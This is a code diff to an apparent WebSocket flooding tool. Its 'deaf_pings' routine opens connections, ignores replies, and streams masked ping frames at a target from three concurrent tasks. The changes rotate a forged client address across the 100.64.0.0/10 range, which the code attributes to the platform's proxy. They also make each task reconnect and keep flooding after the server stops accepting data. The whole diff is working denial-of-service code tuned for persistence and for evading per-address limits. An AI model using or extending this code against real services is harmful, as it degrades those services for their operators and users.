@@ -34,7 +34,7 @@ class Target:
 
     def move(self) -> None:
         """Come from another address from now on, as the platform's proxy tells."""
-        self.address = f"203.0.113.{self.random.randrange(1, 251)}"
+        self.address = f"100.{64 + self.random.randrange(64)}.{self.random.randrange(256)}.{self.random.randrange(256)}"
 
     @property
     def left(self) -> float:
@@ -328,16 +328,18 @@ async def deaf_pings(target: Target) -> None:
     ping = (b"\x89\xfd\0\0\0\0" + b"x" * 125) * 100
 
     async def flood() -> None:
-        reader, writer = await target.connect()
-        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
-            writer.write(handshake(target, token))
-            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
-            writer.transport.pause_reading()  # type: ignore[attr-defined]
-            while target.left > 0:
-                writer.write(ping)
-                await asyncio.wait_for(writer.drain(), max(target.left, 0))
-                target.done["pings"] += 100
-        writer.transport.abort()
+        while target.left > 0:
+            reader, writer = await target.connect()
+            with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
+                writer.write(handshake(target, token))
+                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
+                writer.transport.pause_reading()  # type: ignore[attr-defined]
+                while target.left > 0:
+                    writer.write(ping)
+                    # Nobody takes them any more: come again.
+                    await asyncio.wait_for(writer.drain(), 2)
+                    target.done["pings"] += 100
+            writer.transport.abort()
 
     await asyncio.gather(*(flood() for _ in range(3)))
 
